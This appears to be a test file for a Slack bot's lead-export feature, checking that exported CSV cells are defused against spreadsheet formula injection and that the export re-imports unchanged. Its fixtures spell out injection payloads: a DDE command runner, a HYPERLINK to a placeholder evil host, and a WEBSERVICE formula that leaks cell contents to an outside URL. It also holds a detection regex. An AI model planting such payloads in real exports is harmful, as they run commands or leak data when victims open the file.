// `/lead export` with hostile cells, end to end: the file Slack was asked to upload is parsed back, every formula
// in it is defused, whole phone numbers are not, and an export imported into another workspace gives back the
// very same values (the README promises an export imports again unchanged).
import { parse } from "csv-parse/sync";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { requestImport } from "../helpers/production.js";
import { startTestApp, type TestApp } from "../helpers/test-app.js";
import { FORMULA_PAYLOADS } from "./payloads.js";

const HOSTILE_TEAM = "T0FORMULA1";
const ORDINARY_TEAM = "T0FORMULA2";
const COPY_TEAM = "T0FORMULA3";
const USER = "U0FORMULA1";

const FIELDS = ["name", "company", "title", "notes", "industry", "region"] as const;

/** Values as Baton stores them (trimmed by validation, phones valid), some of which a spreadsheet would run. */
const ORDINARY = [
  { name: "Zoë O'Brien-Smith", company: "Acme, Inc. (EMEA)", title: 'VP "Growth"', notes: "Likes +1s and a=b.\nSecond line." },
  { name: '=HYPERLINK("http://evil.example")', company: "-1+cmd|' /C calc'!A0", title: "@SUM(1+1)", notes: "+ 1+1" },
  { name: "'=already quoted", company: "＝cmd|' /C calc'!A0", title: "'plain quote", notes: "=1+1 first, then words" },
  { name: "李小龍", company: "Ünïcode GmbH", title: "-", notes: "" },
];

describe("/lead export with formula cells", () => {
  let app: TestApp;
  beforeAll(async () => {
    app = await startTestApp();
    app.slack.setUser({ id: USER, is_admin: true });
    for (const teamId of [HOSTILE_TEAM, ORDINARY_TEAM, COPY_TEAM]) await app.requests.command("/baton", "help", { teamId, userId: USER });
    await app.db.lead.createMany({
      data: FORMULA_PAYLOADS.map((payload, i) => ({
        teamId: HOSTILE_TEAM,
        email: `f${i}@formula.io`,
        emailKey: `f${i}@formula.io`,
        ...Object.fromEntries(FIELDS.map((field) => [field, payload])),
        // A phone column holding a formula, then whole phone numbers.
        phone: i === 0 ? '+1+WEBSERVICE("http://x/?"&A2)' : i % 2 ? "+44 20 7946 0958" : "+1 (555) 010-0199",
        createdById: USER,
      })),
    });
    await app.db.lead.createMany({
      data: ORDINARY.map((values, i) => ({
        teamId: ORDINARY_TEAM,
        email: `o${i}@formula.io`,
        emailKey: `o${i}@formula.io`,
        ...values,
        notes: values.notes || null,
        phone: ["+1 415 555 0100", "+44 20 7946 0958", "+1 (555) 010-0199", null][i] ?? null,
        companySize: i % 2 ? "1001-5000" : "1-10",
        industry: "Software",
        region: "EMEA",
        createdById: USER,
      })),
    });
  });
  afterAll(async () => {
    await app.stop();
  });

  const exportOf = async (teamId: string) => {
    app.slack.reset();
    await app.requests.command("/lead", "export", { teamId, userId: USER });
    await app.slack.waitForResponse((post) => /Sent you/.test(post.body.text));
    const content = app.slack.uploadedFile()?.content ?? "";
    return { content, rows: parse(content, { columns: true }) as Record<string, string>[] };
  };

  it("defuses every OWASP payload in every column of the uploaded file, and leaves whole phone numbers alone", async () => {
    const { rows } = await exportOf(HOSTILE_TEAM);
    expect(rows).toHaveLength(FORMULA_PAYLOADS.length);
    FORMULA_PAYLOADS.forEach((payload, i) => {
      const row = rows.find((r) => r.email === `f${i}@formula.io`);
      for (const field of FIELDS) expect(row?.[field], `${field} of ${JSON.stringify(payload)}`).toBe(`'${payload}`);
    });
    expect(rows.find((r) => r.email === "f0@formula.io")?.phone).toBe('\'+1+WEBSERVICE("http://x/?"&A2)');
    expect(rows.find((r) => r.email === "f1@formula.io")?.phone).toBe("+44 20 7946 0958");
    expect(rows.find((r) => r.email === "f2@formula.io")?.phone).toBe("+1 (555) 010-0199");
    // Not one cell of the file starts (after spaces) with something a spreadsheet would evaluate.
    for (const row of rows) {
      for (const [column, cell] of Object.entries(row)) {
        const formula = /^[\t\r]|^\s*[=+\-@\uff1d\uff0b\uff0d\uff20]/.test(cell) && !/^\+[\d ().-]+$/.test(cell);
        expect(formula, `${column}: ${JSON.stringify(cell)}`).toBe(false);
      }
    }
  });

  it("imports into another workspace with exactly the values it was exported with", async () => {
    const { content, rows } = await exportOf(ORDINARY_TEAM);
    expect(rows.find((r) => r.email === "o1@formula.io")?.company).toBe("'-1+cmd|' /C calc'!A0");
    expect(rows.find((r) => r.email === "o2@formula.io")?.name).toBe("''=already quoted");
    expect(rows.find((r) => r.email === "o2@formula.io")?.title).toBe("'plain quote");
    await requestImport(app, { teamId: COPY_TEAM, userId: USER, channelId: `D${USER}` });
    app.slack.addFile("FFORMULA01", "export.csv", content);
    await app.requests.event(
      { type: "file_shared", file_id: "FFORMULA01", user_id: USER, channel_id: `D${USER}`, file: { id: "FFORMULA01" } },
      { teamId: COPY_TEAM },
    );
    const summary = await app.slack.waitFor("chat.postMessage", (call) => String(call.args.text).startsWith("Import of export.csv"));
    expect(summary.args.text).toBe(`Import of export.csv: ${ORDINARY.length} new, 0 updated, 0 unchanged, 0 rejected.`);
    const select = {
      email: true,
      name: true,
      company: true,
      title: true,
      notes: true,
      industry: true,
      region: true,
      phone: true,
      companySize: true,
    };
    const original = await app.db.lead.findMany({ where: { teamId: ORDINARY_TEAM }, select, orderBy: { email: "asc" } });
    const copy = await app.db.lead.findMany({ where: { teamId: COPY_TEAM }, select, orderBy: { email: "asc" } });
    expect(copy).toEqual(original);
  });
});
